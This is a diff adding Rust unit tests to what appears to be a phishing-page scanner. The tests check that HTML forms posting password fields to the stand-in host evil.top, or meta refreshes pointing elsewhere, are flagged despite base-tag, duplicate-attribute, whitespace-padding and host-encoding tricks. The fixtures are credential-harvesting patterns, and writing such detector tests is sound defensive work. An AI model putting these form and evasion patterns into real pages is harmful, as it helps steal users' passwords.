@@ -94,6 +94,58 @@ fn where_a_form_really_posts() {
 }
 
 #[test]
+fn what_is_no_base_hides_nothing() {
+    let form = "<form action=https://evil.top/><input type=password></form>";
+    for base in ["'http://['", "'https://a b/'", "'data:,x'", "'javascript:1'", "''", "mailto:a@b"]
+    {
+        let page = format!("<base href={base}>{form}");
+        assert_eq!(kinds("https://example.com/", &page), [FindingKind::SecretsPosted], "{base}");
+        let refresh = "<meta http-equiv=refresh content='0; url=//evil.top/'>";
+        let page = format!("<base href={base}>{refresh}");
+        assert_eq!(kinds("https://example.com/", &page), [FindingKind::RefreshElsewhere], "{base}");
+    }
+    let second = "<base href=''><base href=https://evil.top/><form action=a><input name=q></form>";
+    assert_eq!(kinds("https://example.com/", second), []);
+    assert_eq!(kinds("shop.example.net:8080/login", form), [FindingKind::SecretsPosted]);
+    let own = "<form action=//shop.example.net:8080/a><input type=password></form>";
+    assert_eq!(kinds("shop.example.net:8080/login", own), []);
+}
+
+#[test]
+fn other_attributes_hide_no_target() {
+    let field = "<input type=password>";
+    for form in [
+        format!("<form src=x action='https://evil.top'>{field}</form>"),
+        format!("<form data=/ href=/ formaction=/ action='https://evil.top'>{field}</form>"),
+        format!("<form action='https://evil.top' action=/>{field}</form>"),
+        format!("<base src=/x href=https://evil.top/><form action=a>{field}</form>"),
+        format!("<form>{field}<button action=/ formaction=//evil.top>go</button></form>"),
+        format!("<form action='{}https://evil.top/'>{field}</form>", " ".repeat(5000)),
+    ] {
+        let kinds = kinds("https://example.com/", &form);
+        assert_eq!(kinds, [FindingKind::SecretsPosted], "{form}");
+    }
+    for form in [
+        format!("<form action=/ action='https://evil.top'>{field}</form>"),
+        format!("<form action='' action='https://evil.top'>{field}</form>"),
+    ] {
+        assert_eq!(kinds("https://example.com/", &form), [], "{form}");
+    }
+}
+
+#[test]
+fn a_page_is_at_home_however_its_host_is_written() {
+    let form = "<form action=/c.php><input type=password></form>";
+    let copy = "<!-- saved from url=(0020)https://www.xn--bcher-kva.example/ -->";
+    for url in ["http://3627734734/login", "http://bücher.example/login", "http://a%2eexample/"] {
+        assert_eq!(kinds(url, form), [], "{url}");
+    }
+    assert_eq!(kinds("http://bücher.example/login", copy), []);
+    let named = "<form><input type=password></form><img src=google.png><img src=/apple.svg>";
+    assert_eq!(kinds("https://example.com/", named), []);
+}
+
+#[test]
 fn programs_that_anybody_runs_are_at_home_anywhere() {
     let field = "<form action=/login method=post><input type=password></form>";
     for title in [
